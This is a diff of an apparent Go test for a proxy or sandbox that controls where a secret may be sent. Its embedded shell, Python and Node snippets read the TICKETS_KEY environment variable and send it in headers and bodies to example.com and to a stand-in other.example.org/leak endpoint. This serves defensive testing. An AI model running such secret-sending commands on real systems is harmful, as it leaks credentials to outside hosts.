@@ -89,11 +89,18 @@ import os, urllib.request
 r = urllib.request.Request("https://example.com/python", data=os.environ["TICKETS_KEY"].encode(), headers={"X-Key": os.environ["TICKETS_KEY"]})
 print(urllib.request.urlopen(r).read().decode())
 EOF
-curl -ksS -H "X-Key: $TICKETS_KEY" https://other.example.org/leak; echo`)
-	if strings.Count(out, "welcome") != 3 {
+curl -ksS -H "X-Key: $TICKETS_KEY" https://other.example.org/leak; echo
+if command -v node >/dev/null; then node -e '
+const key = process.env.TICKETS_KEY
+fetch("https://example.com/node", {method: "POST", headers: {"X-Key": key}, body: key}).then(r => r.text()).then(console.log)'; else echo without node; fi`)
+	wanted := []string{"example.com/curl key=" + secret + " body=token=" + secret, "example.com/python key=" + secret + " body=" + secret}
+	if !strings.Contains(out, "without node") {
+		wanted = append(wanted, "example.com/node key="+secret+" body="+secret)
+	}
+	if strings.Count(out, "welcome") != len(wanted)+1 {
 		t.Errorf("the requests did not get through: %s", out)
 	}
-	for _, want := range []string{"example.com/curl key=" + secret + " body=token=" + secret, "example.com/python key=" + secret + " body=" + secret} {
+	for _, want := range wanted {
 		if !strings.Contains(allowed.all(), want) {
 			t.Errorf("at its host arrived\n%s\nwant %s", allowed.all(), want)
 		}
